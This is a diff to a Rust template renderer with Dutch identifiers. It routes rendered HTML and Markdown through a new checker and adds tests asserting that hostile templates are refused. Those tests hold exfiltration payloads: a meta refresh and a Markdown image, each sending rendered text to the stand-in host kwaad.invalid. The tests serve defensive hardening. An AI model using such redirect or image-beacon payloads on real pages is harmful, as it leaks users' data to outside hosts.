@@ -9,6 +9,7 @@ use minijinja::{AutoEscape, Environment, Error, ErrorKind, Output, State, Undefi
 use serde::Serialize;
 use sha2::{Digest, Sha256};
 
+use super::pagina;
 use crate::render::text::safe;
 
 /// Every template that comes with the program, by its file name.
@@ -71,14 +72,14 @@ pub fn vul(naam: &str, eigen: &Eigen, gegevens: &impl Serialize) -> Result<Strin
     env.add_global("csp", Value::from_safe_string(policy(&style)));
     env.add_global("stijl", Value::from_safe_string(style));
     let text = env.get_template(naam).and_then(|template| template.render(&data)).map_err(|e| explain(&e))?;
-    if is_html(naam) && !text.contains(POLICY) {
-        let wat = "de regel met Content-Security-Policy ontbreekt; neem {{ csp }} over uit basis.html";
-        return Err(SjabloonError { bestand: naam.to_owned(), regel: None, wat: wat.to_owned() });
+    let refused = if is_html(naam) { pagina::on_page(&text) } else { pagina::in_markdown(&text) };
+    match refused {
+        Some(wat) => Err(SjabloonError { bestand: naam.to_owned(), regel: None, wat }),
+        None => Ok(text),
     }
-    Ok(text)
 }
 
-const POLICY: &str = "<meta http-equiv=\"Content-Security-Policy\" content=\"default-src 'none'; ";
+pub(super) const POLICY: &str = "<meta http-equiv=\"Content-Security-Policy\" content=\"default-src 'none'; ";
 
 /// A page may use its own style and nothing else: no script, no picture, no font, no request, no form.
 fn policy(style: &str) -> String {
@@ -264,6 +265,12 @@ mod tests {
                 .contains("autoescape")
         );
         assert!(fill("{{ csp }}{{ tekst }}").unwrap().ends_with("&lt;script&gt;"));
+        assert!(fill("<img src='x'>{{ csp }}").unwrap_err().wat.contains("bovenaan"));
+        let leaving =
+            "{{ csp }}<meta http-equiv='refresh' content='0;url=https://kwaad.invalid/?{{ tekst }}'>";
+        assert!(fill(leaving).unwrap_err().wat.contains("<meta> mag hier niet"));
+        let picture = vul("rapport.md", &own("rapport.md", "![x](//kwaad.invalid/{{ tekst }})"), &data());
+        assert!(picture.unwrap_err().wat.contains("mag hier niet"));
         let endless =
             "{{ csp }}{% for a in range(99999) %}{% for b in range(99999) %}x{% endfor %}{% endfor %}";
         assert!(fill(endless).unwrap_err().wat.contains("komt niet aan een eind"));
